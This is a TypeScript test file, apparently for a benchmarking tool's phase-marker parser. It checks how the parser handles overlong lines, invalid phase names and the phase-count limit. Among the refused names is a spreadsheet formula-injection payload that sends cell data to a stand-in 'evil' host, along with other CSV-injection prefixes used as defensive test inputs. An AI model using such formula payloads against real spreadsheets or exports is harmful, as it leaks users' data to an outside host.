/**
 * Fault injection on phase markers (issue 12, defect 8): a huge line that starts like a marker is
 * passed through as it arrives (never held back, never parsed); empty, overlong and formula-like
 * names are refused and passed through as text, with the reason; a run refuses a phase past its
 * limit with a clear error. (CSV escaping and reports with thousands of phases: test/report/faults-report.)
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MAX_MARKER_LINE, MAX_PHASE_NAME, PhaseMarkerFilter, checkPhaseName } from '../../src/measurement/phase-markers.js';
import { prepareCarbon } from '../../src/carbon/index.js';
import { selectSources } from '../../src/measurement/select.js';
import { executeRun } from '../../src/run/lifecycle.js';
import { MAX_PHASES } from '../../src/run/recorder.js';
import { UserError } from '../../src/core/errors.js';

function filter() {
  const r = { out: '', phases: [] as string[], ignored: [] as string[], writes: 0 };
  const f = new PhaseMarkerFilter(
    (t) => {
      r.out += t;
      r.writes++;
    },
    (name) => r.phases.push(name),
    (reason) => r.ignored.push(reason),
  );
  return { f, r };
}

test('a 16 MB line starting "::kdbench phase ": passed through as it arrives, never more than the cap held back, not a phase', () => {
  const { f, r } = filter();
  const chunk = 'x'.repeat(64 * 1024);
  f.push('::kdbench phase ');
  let pushed = '::kdbench phase '.length;
  for (let i = 0; i < 256; i++) {
    f.push(chunk);
    pushed += chunk.length;
    assert.ok(pushed - r.out.length <= MAX_MARKER_LINE, `held back ${pushed - r.out.length} characters after ${pushed}`);
  }
  f.push('::\nnext line\n::kdbench phase after::\n');
  f.end();
  assert.deepEqual(r.phases, ['after'], 'the overlong line is not a marker; the next marker still counts');
  assert.ok(r.out.endsWith('x::\nnext line\n'));
  assert.equal(r.out.length, pushed + '::\nnext line\n'.length);
  assert.equal(r.ignored.length, 1);
  assert.match(r.ignored[0], new RegExp(`longer than ${MAX_MARKER_LINE} characters is not parsed`));
});

test('markers with an empty, overlong or formula-like name are text, with the reason; good names still count', () => {
  const { f, r } = filter();
  const long = 'n'.repeat(200);
  f.push(`::kdbench phase    ::\n::kdbench phase ${long}::\n::kdbench phase =HYPERLINK("http://evil/?"&A1,"x")::\n`);
  f.push('::kdbench phase +1::\n::kdbench phase @SUM(A1)::\n::kdbench phase -2::\n::kdbench phase a\tb::\n');
  f.push('::kdbench phase train epoch 3/10 (lr 1e-3)::\n::kdbench phase évaluation_ß::\n');
  f.push(`::kdbench phase ${'n'.repeat(100_000)}::\n`);
  f.end();
  assert.deepEqual(r.phases, ['train epoch 3/10 (lr 1e-3)', 'évaluation_ß']);
  assert.equal(r.ignored.length, 8, r.ignored.join('\n'));
  assert.match(r.ignored[0], /the name is empty/);
  assert.match(r.ignored[1], new RegExp(`is 200 characters long \\(at most ${MAX_PHASE_NAME}\\)`));
  for (const why of r.ignored.slice(2, 7)) assert.match(why, /must start with a letter, digit or _/);
  assert.match(r.ignored[7], /longer than 4096 characters is not parsed/, 'a 100 KB name is never parsed');
  assert.ok(r.out.includes('=HYPERLINK('), 'refused markers pass through as the command printed them');
});

test('checkPhaseName: the rules of a phase name', () => {
  for (const ok of ['main', 'inference:teacher:b32:r1', 'distillation:student-bag', '_x', '1st pass', 'a/b#c(d)+e-f.g'])
    assert.equal(checkPhaseName(ok), undefined, ok);
  for (const bad of ['', ' x', '=1+1', '+x', '-x', '@x', 'a"b', 'a,b', 'a\nb', 'x'.repeat(MAX_PHASE_NAME + 1)])
    assert.notEqual(checkPhaseName(bad), undefined, JSON.stringify(bad));
});

test(`a run refuses phase ${MAX_PHASES + 1} with a UserError saying the limit; the phases before it are kept`, async () => {
  const tmp = mkdtempSync(join(tmpdir(), 'kdbench-phase-limit-'));
  try {
    let dir = '';
    await assert.rejects(
      executeRun(
        {
          out: join(tmp, 'run'),
          label: 't',
          kind: 'measure',
          argv: ['t'],
          environment: {},
          intervalMs: 1000,
          selection: selectSources({
            intervalMs: 1000,
            env: { KDBENCH_NVML_LIB: join(tmp, 'none'), KDBENCH_NVIDIA_SMI: '', KDBENCH_POWERCAP_ROOT: join(tmp, 'none'), PATH: '' },
          }),
          carbon: prepareCarbon({}),
          progress: { begin: () => {}, update: () => {}, end: () => {}, log: () => {} },
          reports: false,
        },
        async (ctx) => {
          dir = ctx.dir;
          for (let i = 0; i <= MAX_PHASES; i++) await ctx.phase(`step-${i}`);
        },
      ),
      (e: unknown) =>
        e instanceof UserError && /too many phases: a run records at most 10,000, and "step-10000" would be one more/.test(e.message),
    );
    const run = JSON.parse(readFileSync(join(dir, 'run.json'), 'utf8')) as { status: string; phases: unknown[] };
    assert.equal(run.status, 'failed');
    assert.equal(run.phases.length, MAX_PHASES);
  } finally {
    rmSync(tmp, { recursive: true, force: true });
  }
});
